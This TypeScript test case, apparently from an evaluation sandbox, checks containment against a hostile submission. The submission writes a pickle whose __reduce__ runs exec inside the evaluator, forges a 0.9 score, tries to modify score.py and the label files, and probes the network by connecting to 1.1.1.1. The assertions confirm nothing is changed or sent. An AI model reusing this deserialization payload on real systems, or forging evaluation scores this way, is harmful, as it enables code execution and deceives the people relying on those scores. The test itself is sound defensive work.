import assert from "node:assert/strict";
import { hostile, python } from "../case.ts";
import { canary } from "../stage.ts";

const unpickling = `import pickle, sys
if open("out.csv").read() != "pickled": value = open("out.csv").read()
else: value = pickle.load(open("out.pkl", "rb"))
print("labels unchanged", open("data/labels.csv").read().startswith("labels"), file=sys.stderr)
print('{"score": %s}' % value)
`;

/**
 * A score command that unpickles runs the revision's code. The sandbox cannot mend that, and says so; but such
 * code finds itself in a container as closed as the first, where it can neither change nor send anything.
 */
export default hostile({
  id: "E17",
  tries: "an output whose loading runs code in the evaluator",
  promise: "the score is forged (a score command must not unpickle), but nothing is changed or sent",
  play: [
    {
      revision: python(`
import pickle
inside = '''
import os, socket, sys
for path in ("score.py", "data/labels.csv", "out.csv", "new"):
    try: open(path, "a"); print("CHANGED", path, file=sys.stderr)
    except OSError: pass
try: socket.create_connection(("1.1.1.1", 53), 1); print("SENT", file=sys.stderr)
except OSError: pass
print("uid", os.getuid(), os.path.exists("solution"), file=sys.stderr)
'''
class Payload:
    def __reduce__(self): return (eval, ("(exec(" + repr(inside) + "), 0.9)[1]",))
leave("pickled")
pickle.dump(Payload(), open("out.pkl", "wb"))`),
      task: { run: { outputs: ["out.csv", "out.pkl"] } },
      workspace: { "score.py": unpickling },
      expects: "scored",
      holds: ({ result, evaluator }) => {
        assert.equal(result.score, 0.9);
        assert.equal(evaluator, "uid 65534 False\nlabels unchanged True\n");
        assert.doesNotMatch(evaluator, new RegExp(canary));
      },
    },
  ],
});
